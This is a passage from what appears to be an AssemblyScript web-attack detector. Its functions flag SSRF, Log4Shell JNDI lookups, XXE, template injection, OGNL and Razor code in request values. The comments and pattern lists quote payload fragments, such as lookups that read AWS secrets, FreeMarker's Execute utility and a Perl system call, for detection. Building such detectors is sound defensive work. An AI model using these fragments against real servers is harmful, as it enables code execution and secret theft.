    if (ssrfHost(h, hostEnd)) { lastRule = "ssrf:internal-host"; return true; }
  }
  if (indexOf("169.254.169.254", 0) >= 0 || indexOf("fd00:ec2::254", 0) >= 0) { lastRule = "ssrf:metadata"; return true; }
  // An internal host with a path and no scheme (localhost/, host.docker.internal/admin, 127.0.0.1:8080/x): a
  // client that puts http:// in front fetches it. A bare name or name:port is a config value ("localhost",
  // "localhost:3000"), and a network with its prefix length is CIDR ("10.0.0.0/8").
  if (present & P_SLASH) {
    let w = 0;
    while (w < normLen && w < 16 && isSpace(nb(w))) w++;
    if (isAlpha(nb(w)) || isDigit(nb(w)) || nb(w) == 0x5b) {
      const h = hostAfter(w);
      // (A URL has no blank: "localhost/ is where the dev server runs" is a sentence.)
      // (Named or dotted-quad hosts only: "4/_ZBKO2J…", "01/DEC/2011" start with numbers, not addresses.)
      if (h == w && nb(hostEnd) == 0x2f && !isDigit(nb(hostEnd + 1)) && (ipHost(h, hostEnd) || isAlpha(nb(h)) || nb(h) == 0x5b) && ssrfHost(h, hostEnd) &&
          indexOf(" ", hostEnd) < 0) { lastRule = "ssrf:internal-host"; return true; }
    }
  }
  return false;
}

// ---- JNDI / Log4Shell ------------------------------------------------------------------------------------------

const jndiBufStore = new StaticArray<u8>(8192 + 8);
const jndiBuf: usize = changetype<usize>(jndiBufStore);

// Resolves log4j lookups that only rewrite text (${lower:x}, ${upper:x}, ${::-x}, ${env:NAME:-x}, ${date:'x'})
// into jndiBuf, then looks for "jndi:" or a lookup of a remote protocol.
// Log4j lookups that read the server's environment (${env:AWS_SECRET_ACCESS_KEY}, ${sys:user.home},
// ${java:version}, ${main:0}, ${spring:…}): evaluated where the value is logged, echoed or exfiltrated.
const LOG4J_LOOKUPS: StaticArray<string> = ["env:", "sys:", "java:", "main:", "jvmrunargs:", "ctx:", "spring:", "docker:", "k8s:", "bundle:", "web:", "log4j:", "sd:", "marker:", "event:", "base64:", "hostname}"];
// First-byte flags of three lists in one table (one table, not three: the static data is at its fifth page):
// LOOKUP_FIRST (Log4j lookups), WORD9_FIRST (LIST_WORDS_9), INTERESTING (bytes any attack needs one of).
const FIRST_BYTE = memory.data(256);
const LOOKUP_FIRST: u8 = 1, WORD9_FIRST: u8 = 2, INTERESTING: u8 = 4;
@inline function flagFirstByte(c: u32, flag: u8): void { store<u8>(FIRST_BYTE + <usize>c, load<u8>(FIRST_BYTE + <usize>c) | flag); }
function initLookupFirst(): void { for (let k = 0; k < LOG4J_LOOKUPS.length; k++) flagFirstByte(<u32>LOG4J_LOOKUPS[k].charCodeAt(0), LOOKUP_FIRST); }
initLookupFirst();
const SET_DOLLAR = byteSet("$");
function log4jLookup(): bool {
  for (let i = 0; i + 2 < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_DOLLAR);
    if (i + 2 >= normLen) break;
    if (nb(i) != 0x24 || nb(i + 1) != 0x7b) continue;
    const c = nb(i + 2);
    if ((load<u8>(FIRST_BYTE + <usize>c) & LOOKUP_FIRST) == 0) continue;
    for (let k = 0; k < LOG4J_LOOKUPS.length; k++) {
      const w = unchecked(LOG4J_LOOKUPS[k]);
      if (ch(w, 0) == c && startsAt(i + 2, w) && (w.length > 4 || isAlpha(nb(i + 2 + w.length)) || nb(i + 2 + w.length) == 0x24)) return true;
    }
  }
  return false;
}

function jndiOnNormalized(): bool {
  if (indexOf("${", 0) < 0) return false;
  if (log4jLookup()) { lastRule = "jndi:environment-lookup"; return true; }
  let w = 0;
  let i = 0;
  while (i < normLen) {
    const c = nb(i);
    if (c == 0x24 && nb(i + 1) == 0x7b) {
      // Look ahead in this lookup for ":-" (default value) before a nested "${" or "}".
      let j = i + 2;
      let dflt = -1;
      while (j < normLen && nb(j) != 0x7d && !(nb(j) == 0x24 && nb(j + 1) == 0x7b)) {
        if (nb(j) == 0x3a && nb(j + 1) == 0x2d) { dflt = j + 2; break; }
        j++;
      }
      if (dflt >= 0) { i = dflt; continue; }
      // Text-rewriting lookups: keep their argument.
      if (startsAt(i + 2, "lower:")) { i += 8; continue; }
      if (startsAt(i + 2, "upper:")) { i += 8; continue; }
      if (startsAt(i + 2, "date:")) { i += 7; continue; }
      i += 2;
      continue;
    }
    if (c == 0x7d || c == 0x27) { i++; continue; }
    // Dotless ı (U+0131) upper-cases to I: ${upper:ı} spells the i of jndi.
    if (c == 0xc4 && nb(i + 1) == 0xb1) { store<u8>(jndiBuf + <usize>(w++), 0x69); i += 2; continue; }
    if (!isSpace(c)) store<u8>(jndiBuf + <usize>(w++), <u8>c);
    i++;
  }
  const needles = LIST_NEEDLES_8;
  for (let k = 0; k < needles.length; k++) {
    const s = needles[k];
    const m = s.length;
    for (let p = 0; p + m <= w; p++) {
      let q = 0;
      while (q < m && <u32>load<u8>(jndiBuf + <usize>(p + q)) == ch(s, q)) q++;
      if (q == m) { lastRule = k == 0 ? "jndi:lookup" : "jndi:remote-protocol"; return true; }
    }
  }
  return false;
}

// ---- XXE -------------------------------------------------------------------------------------------------------

function xxeOnNormalized(): bool {
  if (indexOf("<!entity", 0) >= 0) { lastRule = "xxe:entity"; return true; }
  const d = indexOf("<!doctype", 0);
  if (d >= 0) {
    const end = indexOf(">", d);
    const stop = end < 0 ? normLen : end;
    for (let k = d; k < stop; k++) if (nb(k) == 0x5b || startsAt(k, "system") || startsAt(k, "public")) { lastRule = "xxe:doctype"; return true; }
  }
  if (indexOf("xi:include", 0) >= 0 || indexOf("xmlns:xi=", 0) >= 0) { lastRule = "xxe:xinclude"; return true; }
  if (schemaInclude()) { lastRule = "xxe:schema-include"; return true; }
  if (schemaLocationUnpaired()) { lastRule = "xxe:schema-location"; return true; }
  return false;
}
// xsi:schemaLocation holds pairs (a namespace, then where its schema is): a value of one absolute URL alone is
// no schema reference a document carries, but a probe that a validating parser will fetch it (an out-of-band
// read like an external entity's). Real SOAP and Spring documents name pairs; they pass.
function schemaLocationUnpaired(): bool {
  for (let i = indexOf(":schemalocation", 0); i >= 0; i = indexOf(":schemalocation", i + 15)) {
    let k = skipBlanks(i + 15);
    if (nb(k) != 0x3d) continue;
    k = skipBlanks(k + 1);
    const q = nb(k);
    if (q != 0x22 && q != 0x27) continue;
    k++;
    const lim = k + 1024 < normLen ? k + 1024 : normLen;
    let tokens = 0, lastUrl = false;
    while (k < lim && nb(k) != q) {
      while (k < lim && isSpace(nb(k))) k++;
      if (k >= lim || nb(k) == q) break;
      const s = k;
      while (k < lim && !isSpace(nb(k)) && nb(k) != q) k++;
      tokens++;
      lastUrl = startsAt(s, "http://") || startsAt(s, "https://") || startsAt(s, "ftp://") || startsAt(s, "file:");
    }
    if (k < lim && (tokens & 1) == 1 && lastUrl) return true;
  }
  return false;
}
// An XML Schema element that makes a validating parser fetch another document (xs:include, xs:import,
// xs:redefine, xs:override) naming an absolute URL: a request body is no schema, and the fetch is an
// out-of-band read like an external entity's.
const SCHEMA_FETCHES: StaticArray<string> = ["include", "import", "redefine", "override"];
function schemaInclude(): bool {
  let readTo = 0, closedAt = false;
  for (let i = indexOf(":", 1); i >= 0; i = indexOf(":", i + 1)) {
    // <xs: or <xsd: before the ':'
    const three = i >= 3 && nb(i - 3) == 0x3c && nb(i - 2) == 0x78 && nb(i - 1) == 0x73;
    const four = i >= 4 && nb(i - 4) == 0x3c && nb(i - 3) == 0x78 && nb(i - 2) == 0x73 && nb(i - 1) == 0x64;
    if (!three && !four) continue;
    let known = false;
    for (let k = 0; k < SCHEMA_FETCHES.length && !known; k++) known = startsAt(i + 1, unchecked(SCHEMA_FETCHES[k]));
    if (!known) continue;
    // The element's attributes, up to its '>' (at most 512 bytes). What an earlier element's read covered is
    // not read again: before the '>' it reached there is no URL; past a read cut at 512 bytes it goes on.
    if (i < readTo && closedAt) continue;
    const lim = i + 512 < normLen ? i + 512 : normLen;
    let k = i + 1 > readTo ? i + 1 : readTo;
    for (; k < lim && nb(k) != 0x3e; k++) {
      if ((nb(k) == 0x3a && nb(k + 1) == 0x2f && nb(k + 2) == 0x2f) || startsAt(k, "file:")) return true;
    }
    readTo = k; closedAt = k < lim;
  }
  return false;
}

// ---- SSTI -------------------------------------------------------------------------------------------------------

// Expression markers inside a template delimiter: arithmetic between numbers, dunder attributes, objects
// that give code execution in Jinja2/Twig/Freemarker/Velocity/Thymeleaf/ERB.
// Objects of the Java expression languages (JSP/JSF EL, Thymeleaf, Spring) that expose the server:
// ${application}, ${pageContext.request}, ${applicationScope}, #{facesContext…}: as the whole name.
const EL_OBJECTS: StaticArray<string> = ["application", "applicationscope", "pagecontext", "sessionscope", "requestscope", "initparam", "facescontext", "servletcontext"];
// Handlebars/Mustache helpers used to reach the Function constructor ({{#with "s" as |string|}} …
// {{this.push (lookup string.sub "constructor")}} …).
const HELPER_MARKERS: StaticArray<string> = ["this.pop", "this.push", "(lookup", "lookup string", "string.sub", ".apply", "as |"];
function templateExpression(s: i32, e: i32): bool {
  let a = s;
  while (a < e && isSpace(nb(a))) a++;
  for (let k = 0; k < EL_OBJECTS.length; k++) {
    const w = unchecked(EL_OBJECTS[k]);
    if (startsAt(a, w) && a + w.length <= e && !isWordByte(nb(a + w.length))) return true;
  }
  if (nb(a) == 0x23 && startsAt(a + 1, "with")) {
    for (let k = 0; k < HELPER_MARKERS.length; k++) { const m = indexOf(unchecked(HELPER_MARKERS[k]), a); if (m >= 0 && m < e + 512) return true; }
  }
  for (let k = s; k < e; k++) {
    const c = nb(k);
    if ((c == 0x2a || c == 0x2b || c == 0x2d || c == 0x2f) && k > s) {
      let a = k - 1;
      while (a > s && isSpace(nb(a))) a--;
      let b = k + 1;
      while (b < e && isSpace(nb(b))) b++;
      if ((isDigit(nb(a)) || nb(a) == 0x27 || nb(a) == 0x22) && (isDigit(nb(b)) || nb(b) == 0x27 || nb(b) == 0x22)) return true;
    }
    if (c == 0x5f && nb(k + 1) == 0x5f) return true;
  }
  // Marker words: only positions holding a word's first byte are tried.
  const words = LIST_WORDS_9;
  for (let k = s; k < e; k++) {
    if ((load<u8>(FIRST_BYTE + <usize>nb(k)) & WORD9_FIRST) == 0) continue;
    const c0 = nb(k);
    for (let w = 0; w < words.length; w++) {
      const word = unchecked(words[w]);
      const m = word.length;
      if (ch(word, 0) != c0 || k + m > e) continue;
      let q = 1;
      while (q < m && nb(k + q) == ch(word, q)) q++;
      if (q == m) return true;
    }
  }
  return false;
}
function initWordFirst9(): void {
  for (let w = 0; w < LIST_WORDS_9.length; w++) flagFirstByte(<u32>LIST_WORDS_9[w].charCodeAt(0), WORD9_FIRST);
}
initWordFirst9();

// How many engines' opening delimiters occur: ${ {{ <% [% #{ (one pass, one bit each).
function templateOpeners(): i32 {
  let seen = 0;
  for (let i = 0; i + 1 < normLen; i++) {
    const c1 = nb(i + 1);
    if (c1 != 0x7b && c1 != 0x25) continue;
    const c = nb(i);
    if (c1 == 0x7b) { if (c == 0x24) seen |= 1; else if (c == 0x7b) seen |= 2; else if (c == 0x23) seen |= 4; }
    else { if (c == 0x3c) seen |= 8; else if (c == 0x5b) seen |= 16; }
  }
  return <i32>popcnt<i32>(seen);
}

function velocityDirective(): bool {
  for (let i = 0; i < normLen; i++) {
    if (nb(i) != 0x23) continue;
    // The first directive decides: a '$' after it, or none after any later one either (one search, linear).
    if (startsAt(i, "#set(") || startsAt(i, "#set ($") || startsAt(i, "#foreach(") || startsAt(i, "#evaluate(")) return indexOf("$", i) >= 0;
  }
  return false;
}

function bigSumProbe(): bool {
  for (let i = indexOf("+", 9); i >= 0; i = indexOf("+", i + 1)) {
    let a = i;
    while (a > 0 && isDigit(nb(a - 1))) a--;
    if (i - a < 9) continue;
    const before = a > 0 ? nb(a - 1) : 0;
    if (!(before == 0x28 || before == 0x7b || before == 0x5b || before == 0x3d)) continue;
    let b = i + 1;
    while (b < normLen && isDigit(nb(b))) b++;
    if (b - i - 1 < 9) continue;
    const after = b < normLen ? nb(b) : 0;
    if (after == 0x29 || after == 0x7d || after == 0x5d || after == 0x0a || after == 0x3b || after == 0) return true;
  }
  return false;
}

// An arithmetic probe in single braces or Razor's @( ): "{(89+78)*56}", "{((7*8)/(2*4))}", the deliberately
// broken "{3*)2(/4}" a boolean probe sends, "@((89+78)*56)@": digits, operators and parentheses only, with a
// parenthesis and two operators (prose's "{1,2}" or "{n-1}" has neither).
function bracedArithmetic(): bool {
  for (let i = indexOf("{", 0); i >= 0; i = indexOf("{", i + 1)) {
    if (nb(arithmeticRunEnd(i + 1)) == 0x7d && arithOps >= 2 && arithParens >= 1 && arithDigits >= 3) return true;
  }
  for (let i = indexOf("@(", 0); i >= 0; i = indexOf("@(", i + 2)) {
    if (nb(arithmeticRunEnd(i + 1)) == 0x40 && arithOps >= 2 && arithParens >= 2 && arithDigits >= 3) return true;
  }
  return false;
}
// The end of the run of digits, operators, parentheses and blanks from j (at most 48 bytes); what it held in
// arithOps, arithParens and arithDigits.
let arithOps = 0, arithParens = 0, arithDigits = 0;
function arithmeticRunEnd(j: i32): i32 {
  arithOps = 0; arithParens = 0; arithDigits = 0;
  const limit = j + 48;
  for (; j < normLen && j < limit; j++) {
    const c = nb(j);
    if (isDigit(c)) arithDigits++;
    else if (c == 0x2b || c == 0x2d || c == 0x2a || c == 0x2f) arithOps++;
    else if (c == 0x28 || c == 0x29) arithParens++;
    else if (c != 0x20) break;
  }
  return j;
}

// Razor (ASP.NET): an explicit expression holding only arithmetic, "@(7*7)", "@(1337*1337)" (SSTImap's probe), after
// no word byte (an address's "@"), with '*' or '+' (not a date: "@(2026-11-20)"); code reaching processes or files
// ("@System.Diagnostics.Process.Start(…)", "@System.IO.File.…").
function razorCode(): bool {
  for (let i = indexOf("@(", 0); i >= 0; i = indexOf("@(", i + 2)) {
    if (i > 0 && isWordByte(nb(i - 1))) continue;
    let e = arithmeticRunEnd(i + 2);
    while (e > i + 2 && nb(e - 1) == 0x20) e--;
    if (nb(e - 1) != 0x29 || arithParens != 1 || arithOps < 1 || arithDigits < 2) continue;
    for (let k = i + 2; k < e; k++) if (nb(k) == 0x2a || nb(k) == 0x2b) { lastRule = "ssti:razor"; return true; }
  }
  if (has("@system.diagnostics.process") || has("@system.io.file")) { lastRule = "ssti:razor"; return true; }
  return false;
}
function sstiOnNormalized(): bool {
  // FreeMarker: directives and the builtins that reach Java (<#assign ex="freemarker.template.utility.Execute"?new()>).
  if (has("freemarker.template.utility") || ((present & P_QMARK) != 0 && (has("?new(") || has("?api."))) ||
      ((present & P_HASH_AT_STAR) != 0 && (has("<#assign") || has("<#include") || has("<#import")))) { lastRule = "ssti:freemarker"; return true; }
  // Perl string interpolation of code: "@{[ system 'id' ]}".
  if ((present & P_HASH_AT_STAR) != 0 && has("@{[")) { lastRule = "ssti:perl-interpolation"; return true; }
  // Velocity: #set($x = …) and #foreach/#evaluate directives over $references.
  if (velocityDirective()) { lastRule = "ssti:velocity"; return true; }
  if ((present & P_PERCENT) != 0 && ognlProbe()) { lastRule = "ssti:ognl"; return true; }
  if ((present & (P_BRACE | P_HASH_AT_STAR)) != 0 && (present & P_PAREN) != 0 && bracedArithmetic()) { lastRule = "ssti:arithmetic-probe"; return true; }
  // Engine-detection polyglots (${{<%[%'"}}%\.): the delimiters of several engines at once.
  if (templateOpeners() >= 3) { lastRule = "ssti:polyglot"; return true; }
  // Linear in the value however many delimiters it holds ("{{{{…", "${${…" used to cost seconds per 8 KiB):
  // per delimiter kind, the next closing delimiter found is reused while it lies ahead, and overlapping
  // regions (each opening up to its close, or 256 bytes when unclosed) are merged and checked once.
  for (let k = 0; k < 4; k++) { store<i32>(sstiNextClose + <usize>(k << 2), -2); store<i32>(sstiFrom + <usize>(k << 2), 0); store<i32>(sstiTo + <usize>(k << 2), 0); }
  for (let i = 0; i + 1 < normLen; i++) {
    i = nextInSet(normPtr + 1, i, normLen - 1, SET_TEMPLATE_NEXT); // openers: the byte after is '{' or '%'
    if (i + 1 >= normLen) break;
    const c = nb(i);
    const c1 = nb(i + 1);
    let kind = -1;
    if (c == 0x7b && c1 == 0x7b) kind = 0;                                          // {{ … }}
    else if (c == 0x7b && c1 == 0x25) kind = 1;                                     // {% … %}
    else if ((c == 0x24 || c == 0x23 || c == 0x2a || c == 0x40) && c1 == 0x7b) kind = 2; // ${ #{ *{ @{ … }
    else if (c == 0x3c && c1 == 0x25) kind = 3;                                     // <% … %>
    if (kind < 0) continue;
    const s = i + 2;
    const k4 = <usize>(kind << 2);
    let e = load<i32>(sstiNextClose + k4);
    if (e == -2 || (e >= 0 && e < s)) { e = indexOf(unchecked(SSTI_CLOSE[kind]), s); store<i32>(sstiNextClose + k4, e); }
    if (e < 0) e = normLen < s + 256 ? normLen : s + 256;
    const to = load<i32>(sstiTo + k4);
    if (e <= to) continue;                       // inside the pending region
    if (s < to) { store<i32>(sstiTo + k4, e); continue; } // overlaps it: extend
    // A separate region: check the pending one, start this one.
    if (to > load<i32>(sstiFrom + k4) && templateExpression(load<i32>(sstiFrom + k4), to)) { lastRule = "ssti:expression"; return true; }
    store<i32>(sstiFrom + k4, s); store<i32>(sstiTo + k4, e);
  }
  for (let k = 0; k < 4; k++) {
    const from = load<i32>(sstiFrom + <usize>(k << 2)), to = load<i32>(sstiTo + <usize>(k << 2));
    if (to > from && templateExpression(from, to)) { lastRule = "ssti:expression"; return true; }
  }
  return false;
}
// Struts' OGNL evaluation: %{#…} (a variable or the context), or %{<number><operator><number>} closed at once
// (%{128*128}: the render probe of S2-057/S2-059 scans). Printf-style %{name} stays text.
function ognlProbe(): bool {
  for (let i = indexOf("%{", 0); i >= 0; i = indexOf("%{", i + 2)) {
    let j = i + 2;
    if (nb(j) == 0x23 && isAlpha(nb(j + 1))) return true;
    const d0 = j;
    while (j < normLen && isDigit(nb(j))) j++;
    if (j == d0 || !(nb(j) == 0x2a || nb(j) == 0x2b || nb(j) == 0x2d)) continue;
    j++;
    const d1 = j;
    while (j < normLen && isDigit(nb(j))) j++;
    if (j > d1 && nb(j) == 0x7d) return true;
  }
  return false;
}
const SSTI_CLOSE: StaticArray<string> = ["}}", "%}", "}", "%>"];
const sstiNextClose = memory.data(16);
const sstiFrom = memory.data(16);
const sstiTo = memory.data(16);

// ---- entry points ----------------------------------------------------------------------------------------------

// Bytes that any attack needs at least one of; values without them skip the detectors (the common case).
// A flag of the raw FIRST_BYTE table (not a StaticArray: no bounds check or shadow-stack traffic in the hot loop).
const INTERESTING_BYTES = "'\"<>;|&$%{}()\\`#=+*@/:.-\n\x1a";
function initInteresting(): void {
  for (let i = 0; i < INTERESTING_BYTES.length; i++) flagFirstByte(<u32>INTERESTING_BYTES.charCodeAt(i), INTERESTING);
}
initInteresting();

// Whether (p, n) might hold an attack at all: a cheap filter before normalization. With SIMD 16 bytes a
// step (the last block too while it lies inside memory), the interesting bytes by a byte set.
const SET_INTERESTING = byteSet(INTERESTING_BYTES);
export function mayHoldAttack(p: usize, n: i32): bool {
  let spaces = 0;
  let i = 0;
  if (ASC_FEATURE_SIMD) {
    const memEnd = <usize>memory.size() << 16;
    const set = v128.load(SET_INTERESTING);
    for (; i < n && p + <usize>i + 16 <= memEnd; i += 16) {
      const v = v128.load(p + <usize>i);
      const lanes = lanesBefore(i, n);
      if (inSetMask(v, set) & lanes) return true;
      spaces += <i32>popcnt(i8x16.bitmask(i8x16.eq(v, i8x16.splat(0x20))) & lanes);
    }
  }
  for (; i < n; i++) {
    const c = <u32>load<u8>(p + <usize>i);
    if ((load<u8>(FIRST_BYTE + <usize>c) & INTERESTING) != 0) return true;
    if (c == 0x20) spaces++;
  }
  // "1 union select x" and "1 or sleep 5" have only letters, digits and spaces: still worth the SQL lexer.
  // Letters, '_' and brackets only: __proto__[isAdmin], constructor[prototype] (both hold "roto").
  // Two words, the first running the second: "strace ifconfig", "nohup id"; a probe: "sleep 5", "which nc".
  // Base64 without padding has none of the bytes either: node-serialize's marker encoded.
  // A host under an out-of-band testing domain ("x7f3.oast.pro"): letters, digits and dots.
  // A database's catalog alone ("information_schema", "pg_catalog", "mysql.user"): a blind injection's probe.
  return spaces >= 2 || javaSerializedAt(p, n) || (n >= 9 && holdsRoto(p, n)) || startsWithCommandPrefix(p, n) || startsWithProbeWord(p, n) || nodeSerializedBase64At(p, n) || oastDomainIn(p, n) ||
    catalogNameStart(p, n);
}

// Detects attacks in one raw value. Returns a bitmask of AttackClass bits; lastRule names the last match.
// `mask` selects the classes to run (bit per AttackClass), e.g. ALL_VALUE_CLASSES.
export function detectAttacks(p: usize, n: i32, mask: u32): u32 {
  if (n <= 0 || !mayHoldAttack(p, n)) return 0;
  return detectAttacksMayHold(p, n, mask);
}
// detectAttacks past its byte filter.
function detectAttacksMayHold(p: usize, n: i32, mask: u32): u32 {
  normalize(p, n);
  let found = detectOnNormalized(mask);
  if (found != 0) return found;
  // A plus sign sent as %2B (str(4028888784%2B2519945525) in a query): read once more with it kept.
  if (decodedPlus) {
    keepDecodedPlus = true;
    normalize(p, n);
    keepDecodedPlus = false;
    found = detectOnNormalized(mask & PLUS_CLASSES);
    if (found != 0) return found;
  }
  if (formEncoded || !rawHadPlus) return 0;
  // '+' is a space in a query string but itself in JSON and text ("-1 OR 2+1=3"): a value with '+' that read
  // clean with '+' as a space is read once more with '+' kept.
  plusAsSpace = false;
  normalize(p, n);
  plusAsSpace = true;
  return detectOnNormalized(mask & PLUS_CLASSES);
}
// The classes where a '+' kept as itself can read differently from a blank: arithmetic and concatenation in SQL,
// JavaScript and template expressions ("-1 OR 2+1=3", "'+alert(1)+'", "{{7+7}}").
const PLUS_CLASSES: u32 = (1 << <u32>AttackClass.Sqli) | (1 << <u32>AttackClass.Xss) | (1 << <u32>AttackClass.Ssti);
let plusAsSpace = true;
let keepDecodedPlus = false;
let decodedPlus = false; // the passes after the first met a '+' (one the first pass decoded from %2B)
// Set while form-encoded values (query strings, form bodies) are read: there '+' is only a space.
let formEncoded = false;
export function detectAttackInForm(p: usize, n: i32): AttackClass {
  formEncoded = true;
  const a = detectAttackWindowed(p, n);
  formEncoded = false;
  return a;
}
// Whether the raw value held a '+' (seen by normalize's first decoding pass).
let sawPlus = false;
let rawHadPlus = false;

// Which bytes the normalized value holds, in one pass: each detector runs only when the bytes it needs
// are present (most values need one or two detectors, not nine).
const P_LT: u32 = 1, P_QUOTE: u32 = 2, P_COLON: u32 = 4, P_SLASH: u32 = 8, P_DOTDOT: u32 = 16, P_SHELL: u32 = 32,
  P_DOLLAR_BRACE: u32 = 64, P_BRACE: u32 = 128, P_PAREN: u32 = 256, P_BACKTICK_FENCE: u32 = 512, P_HASH_AT_STAR: u32 = 1024, P_PERCENT: u32 = 2048,
  P_BANG: u32 = 4096, P_QMARK: u32 = 8192, P_HASH: u32 = 16384, P_EQ: u32 = 32768, P_BRACKET: u32 = 65536, P_SPACE_DASH: u32 = 131072,
  // Whitespace, control bytes, bytes >= 0x80 and the operators ) + , ] ^ ~ (with the flags above and P_DASH:
  // every byte but letters, digits and . / \ _, which alone cannot make SQL: "application/json", "Europe/Berlin").
  P_SQL_OTHER: u32 = 262144, P_DASH: u32 = 524288,
  // Bytes without which SQL needs one of its words: quotes, parentheses, ; # * @ | < > ! \ $, newlines, "&&".
  // "w=200&h=100", "a=b", "1,2,3" hold none of them and no SQL word: not SQL (probed: "1=1" alone is not flagged).
  P_SQL_TRIGGER: u32 = 1048576,
  P_DIGIT: u32 = 2097152, P_DOT: u32 = 4194304, P_UNDERSCORE: u32 = 8388608, P_DOLLAR: u32 = 16777216, P_BREAK: u32 = 33554432;
const P_ALL: u32 = 67108863;
// The flags a byte sets by itself; the pairs (".." "${" "#x" " -" "&&") are tested where one of their bytes is.
const PRESENT_OF = memory.data(256 * 4);
function initPresentOf(): void {
  for (let c: u32 = 0; c < 256; c++) {
    let f: u32 = 0;
    if (c == 0x22 || c == 0x27) f |= P_QUOTE;
    if (c == 0x2f || c == 0x5c) f |= P_SLASH;
    if (c == 0x26 || c == 0x0a || c == 0x24 || c == 0x3c || c == 0x3e || c == 0x3b || c == 0x7c || c == 0x60 || c == 0x1a) f |= P_SHELL;
    if (c == 0x28) f |= P_PAREN;
    if (c == 0x23 || c == 0x2a || c == 0x40) f |= P_HASH_AT_STAR;
    if (c == 0x25) f |= P_PERCENT;
    if (c == 0x21) f |= P_BANG;
    if (c == 0x3c) f |= P_LT;
    if (c == 0x3a) f |= P_COLON;
    if (c == 0x7b || c == 0x7d) f |= P_BRACE;
    if (c == 0x60) f |= P_BACKTICK_FENCE;
    if (c == 0x3f) f |= P_QMARK;
    if (c == 0x3d) f |= P_EQ;
    if (c == 0x5b) f |= P_BRACKET;
    if (c == 0x2e) f |= P_DOT;
    if (c == 0x5f) f |= P_UNDERSCORE;
    if (c == 0x24) f |= P_DOLLAR;
    if (c == 0x0a || c == 0x0d) f |= P_BREAK;
    if (c <= 0x20 || c >= 0x80 || c == 0x29 || c == 0x2b || c == 0x2c || c == 0x5d || c == 0x5e || c == 0x7e) f |= P_SQL_OTHER;
    else if (c == 0x2d) f |= P_DASH;
    if (c == 0x27 || c == 0x22 || c == 0x60 || c == 0x28 || c == 0x29 || c == 0x3b || c == 0x23 || c == 0x2a || c == 0x40 || c == 0x7c ||
        c == 0x3c || c == 0x3e || c == 0x21 || c == 0x5c || c == 0x24 || c == 0x0a) f |= P_SQL_TRIGGER;
    store<u32>(PRESENT_OF + (<usize>c << 2), f);
  }
}
initPresentOf();
// The flags of byte c at i of the normalized value, with the pairs it starts or ends.
@inline function presentAt(i: i32, c: u32): u32 {
  let f = load<u32>(PRESENT_OF + (<usize>c << 2));
  if (c == 0x2e) { if (nb(i + 1) == 0x2e) f |= P_DOTDOT; }
  else if (c == 0x24) { if (nb(i + 1) == 0x7b) f |= P_DOLLAR_BRACE; }
  // '#' before a letter or '{' (#set, #{…}): '#' before a digit is a number ("order #10000"), no template.
  else if (c == 0x23) { const d = nb(i + 1); if (d == 0x7b || (d | 0x20) - 0x61 < 26) f |= P_HASH; }
  else if (c == 0x2d || c == 0x2f) { const b = nb(i - 1); if (b == 0x20 || b == 0x2c) f |= P_SPACE_DASH; }
  else if (c == 0x26) { if (nb(i + 1) == 0x26) f |= P_SQL_TRIGGER; }
  return f;
}
// The flags of the last presentBytes(): detectors use them to skip needles that cannot occur.
let present: u32 = 0;
function presentBytes(): u32 {
  let f: u32 = 0;
  let i = 0;
  if (ASC_FEATURE_SIMD) {
    // 16 bytes at a time: letters, digits and spaces (most of most values) by vector compares, the other bytes
    // through the table; all flags set ends the scan.
    // The last block too, its lanes past normLen masked (NORM_SLACK).
    for (; i < normLen && f != P_ALL; i += 16) {
      const v = v128.load(normPtr + <usize>i);
      const lanes = lanesBefore(i, normLen);
      const digit = asciiDigits(v);
      const plain = v128.or(asciiLetters(v), digit);
      if (i8x16.bitmask(digit) & lanes) f |= P_DIGIT;
      const space = i8x16.eq(v, i8x16.splat(0x20));
      if (i8x16.bitmask(space) & lanes) f |= P_SQL_OTHER;
      let other = ~i8x16.bitmask(v128.or(plain, space)) & lanes;
      while (other != 0) {
        const k = i + <i32>ctz(other);
        f |= presentAt(k, <u32>load<u8>(normPtr + <usize>k));
        other &= other - 1;
      }
    }
  }
  for (; i < normLen; i++) {
    const c = <u32>load<u8>(normPtr + <usize>i);
    if (c - 0x30 < 10) { f |= P_DIGIT; continue; }
    if ((c | 0x20) - 0x61 < 26) continue;
    f |= presentAt(i, c);
  }
  present = f;
  return f;
}

export function detectOnNormalized(mask: u32): u32 {
  let found: u32 = 0;
  constructorAt = -2;
  const f = presentBytes();
  const wantCmdi = (mask & (1 << AttackClass.Cmdi)) != 0; // before the byte gates (Java class names need none)
  const wantSsti = (mask & (1 << AttackClass.Ssti)) != 0;
  const wantSqli = (mask & (1 << AttackClass.Sqli)) != 0;
  // node-serialize's function marker "_$$ND_FUNC$$_" sent base64-encoded (a cookie the server decodes and
  // unserializes: CVE-2017-5941), its encoding "XyQkTkRfRlVOQyQk" at the value's start.
  if (wantCmdi && normLen >= 16 && nb(0) == 0x78 && startsAt(0, "xyqktkrfrlvoqyqk")) { lastRule = "cmdi:node-serialize"; return 1 << AttackClass.Cmdi; }
  // Gates: the bytes without which a class cannot match (see each detector).
  if (!(f & P_DOLLAR_BRACE)) mask &= ~(1 << AttackClass.Jndi);
  // SQL needs more than letters, digits and . / \ _ ; with '-' or ':' too ("select-1"), it needs a SQL word
  // (UUIDs, slugs, dates, MAC addresses and times have none).
  // (A PostgreSQL cast has only a name and "::int": password::int.)
  if (!(f & ~(P_SLASH | P_DOTDOT | P_DASH | P_COLON | P_DIGIT | P_DOT)) && (!(f & (P_DASH | P_COLON)) || !hasSqlWord(normPtr, normLen)) && !((f & P_COLON) && postgresCast()) &&
      catalogProbe() === null) mask &= ~(1 << AttackClass.Sqli); // (mysql.user, MSysAccessObjects)
  else if (!(f & P_SQL_TRIGGER) && (mask & (1 << AttackClass.Sqli)) && !hasSqlWord(normPtr, normLen) && catalogProbe() === null && !((f & P_COLON) && postgresCast())) mask &= ~(1 << AttackClass.Sqli); // URLs with a query
  // (A comment between '.'-joined names may hide a property read: document /*x*/ . cookie.)
  if (!(f & (P_LT | P_QUOTE | P_COLON | P_PAREN | P_BACKTICK_FENCE)) && (f & (P_BRACKET | P_BANG)) != (P_BRACKET | P_BANG) && !((f & P_DASH) && utf7Markup()) &&
      !((f & (P_DOT | P_EQ)) == (P_DOT | P_EQ) && indexOf("document.cookie", 0) >= 0) && // document.cookie=x (domSinkWrite)
      ((f & (P_HASH_AT_STAR | P_SLASH | P_DOT)) != (P_HASH_AT_STAR | P_SLASH | P_DOT) || indexOf("/*", 0) < 0)) mask &= ~(1 << AttackClass.Xss);
